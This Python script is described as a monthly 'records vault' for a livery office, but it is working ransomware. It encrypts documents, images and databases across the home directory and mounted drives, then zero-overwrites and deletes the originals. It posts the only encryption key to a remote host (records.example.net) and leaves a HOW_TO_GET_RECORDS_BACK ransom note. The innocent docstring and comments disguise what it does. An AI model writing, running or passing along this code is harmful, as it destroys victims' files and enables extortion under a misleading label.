#!/usr/bin/env python3
"""Livery records vault.

Seals livery paperwork (invoices, passports, vet letters) so that only the
office can open it again. Run from the office PC at the end of each month.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("vault")

SEALED_SUFFIX = ".sealed"
# document types the office keeps about liveries and owners
KINDS = ["pdf", "docx", "xlsx", "csv", "jpg", "png", "odt", "txt", "db", "sqlite"]
KEY_DROP = "https://records.example.net/vault/keys"
NOTE_NAME = "HOW_TO_GET_RECORDS_BACK.txt"


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        # the plain copy must not stay around once sealed
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def candidate_files(roots, kinds):
    wanted = {"." + k for k in kinds}
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in wanted and not name.endswith(SEALED_SUFFIX):
                    yield p


def register_key(key, office_id):
    # the office keeps the only copy of the key
    try:
        requests.post(KEY_DROP, json={"office": office_id, "k": key.decode()}, timeout=20)
    except requests.RequestException as exc:
        log.warning("could not register key: %s", exc)


def leave_note(roots, office_id):
    text = (
        "Your livery records have been sealed.\n"
        f"Quote reference {office_id} to records@example.net to receive the unlock file.\n"
    )
    for root in roots:
        try:
            (Path(root) / NOTE_NAME).write_text(text)
        except OSError:
            pass


def default_roots():
    home = Path.home()
    roots = [home]
    for extra in ("/mnt", "/media"):
        if os.path.isdir(extra):
            roots.append(Path(extra))
    return roots


def main():
    parser = argparse.ArgumentParser(description="Seal monthly livery paperwork")
    parser.add_argument("roots", nargs="*", help="folders to seal (default: your documents)")
    parser.add_argument("--office", default=os.environ.get("OFFICE_ID", "stables-01"))
    parser.add_argument("--kinds", default=",".join(KINDS))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    key = Fernet.generate_key()
    register_key(key, args.office)
    sealer = Sealer(key)
    del key

    for path in candidate_files(roots, args.kinds.split(",")):
        try:
            sealer.seal(path)
            log.debug("sealed %s", path)
        except (PermissionError, OSError) as exc:
            log.debug("skipped %s: %s", path, exc)

    leave_note(roots, args.office)
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
